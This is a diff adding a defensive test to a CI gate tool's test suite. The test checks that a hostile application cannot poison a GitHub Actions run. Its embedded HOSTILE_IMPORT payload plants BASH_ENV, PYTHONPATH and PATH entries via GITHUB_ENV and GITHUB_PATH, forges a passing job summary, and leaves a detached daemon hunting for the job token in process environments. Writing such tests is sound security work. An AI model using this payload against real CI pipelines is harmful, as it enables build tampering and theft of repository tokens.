@@ -206,3 +206,103 @@ def test_baseline_then_pull_request_runs_the_team_s_code_and_comments_once(
     assert second[0] == first[0]
     assert second[2] != first[2]
     assert fake.requests_to("PATCH", rf"/issues/comments/{first[0]}")
+
+
+HOSTILE_IMPORT = '''from typing import Any
+
+import os as _os
+
+
+def _hostile(witness: str) -> None:
+    """At import, in the run step: plant in the runner's files (their paths read from an
+    ancestor's environment) and leave a setsid daemon that hunts for the token."""
+    files, pid = {}, _os.getpid()
+    for _ in range(10):
+        try:
+            with open(f"/proc/{pid}/environ", "rb") as handle:
+                for entry in handle.read().split(b"\\0"):
+                    key, _, value = entry.partition(b"=")
+                    if key.startswith(b"GITHUB_") and value:
+                        files.setdefault(key.decode(), value.decode())
+            with open(f"/proc/{pid}/stat") as stat:
+                pid = int(stat.read().rpartition(")")[2].split()[1])
+        except (OSError, ValueError):
+            break
+    marker = _os.path.join(witness, "ran-planted")
+    with open(_os.path.join(witness, "bash_env.sh"), "w") as handle:
+        handle.write(f"echo bash_env >> {marker}\\n")
+    plants = {
+        "GITHUB_ENV": f"BASH_ENV={witness}/bash_env.sh\\nPYTHONPATH={witness}\\n",
+        "GITHUB_PATH": f"{witness}\\n",
+        "GITHUB_STEP_SUMMARY": "## \\u2705 goldgate: passed\\n",
+    }
+    for name, text in plants.items():
+        if name in files:
+            with open(files[name], "a") as handle:
+                handle.write(text)
+    if _os.fork() > 0:
+        return
+    _os.setsid()
+    if _os.fork() > 0:
+        _os._exit(0)
+    with open(_os.path.join(witness, "daemon.pid"), "w") as handle:
+        handle.write(str(_os.getpid()))
+    import time
+
+    until = time.monotonic() + 300
+    while time.monotonic() < until:
+        for name in _os.listdir("/proc"):
+            try:  # goldgate's processes in this workspace (the machine runs other tests)
+                if _os.readlink(f"/proc/{name}/cwd") != _os.getcwd():
+                    continue
+                with open(f"/proc/{name}/environ", "rb") as handle:
+                    if b"INPUT_GITHUB_TOKEN=" + b"__TOKEN__" in handle.read():
+                        open(_os.path.join(witness, "stolen"), "w").close()
+            except OSError:
+                continue
+        time.sleep(0.1)
+    _os._exit(0)
+
+
+_hostile(__WITNESS__)
+'''
+
+
+def _alive(pid: int) -> bool:
+    try:
+        with open(f"/proc/{pid}/stat", "rb") as stat:
+            return stat.read().rpartition(b")")[2].split()[0] != b"Z"
+    except OSError:
+        return False
+
+
+def test_a_hostile_application_cannot_reach_the_publishing_step(
+    tmp_path: Path, fake: FakeGitHub, payload: dict[str, Any], wheelhouse: Path
+) -> None:
+    """Issue 39 item 1 under a real runner: the application's target plants BASH_ENV and
+    PYTHONPATH in GITHUB_ENV, a folder in GITHUB_PATH and a forged pass in the job summary,
+    and leaves a double-forked setsid daemon; the job is still red, with the real summary,
+    and nothing planted ran or outlived the run step."""
+    team = Team(tmp_path, fake, wheelhouse)
+    pull = payload["pull_request"]
+    fake.set_merge_base(pull["base"]["sha"], pull["head"]["sha"], MERGE_BASE)
+    witness = tmp_path / "hostile"
+    witness.mkdir()
+    hostile = HOSTILE_IMPORT.replace("__WITNESS__", repr(str(witness))).replace("__TOKEN__", TOKEN)
+    edits = {**CANDIDATE_EDITS}
+    app = "support_triage_app/app.py"
+    edits[app] = [*CANDIDATE_EDITS.get(app, []), ("from typing import Any\n", hostile)]
+
+    result = team.run("pull-request.yml", "pull_request", payload, edits)
+
+    job = result.job("Gold")
+    assert job.result == "failure", result.text
+    assert job.outputs["goldgate"]["exit_code"] == "1", result.text
+    assert (witness / "daemon.pid").is_file(), result.text  # the attack ran
+    assert not _alive(int((witness / "daemon.pid").read_text("utf-8")))
+    assert "## ✅ goldgate: passed\n" not in job.summary  # the forged line (evals pass)
+    assert job.summary.startswith("## ❌ goldgate: failed"), job.summary[:300]
+    assert not (witness / "ran-planted").exists()
+    assert not (witness / "stolen").exists()
+    (comment,) = fake.comments(pull["number"])
+    assert "goldgate" in comment[2]
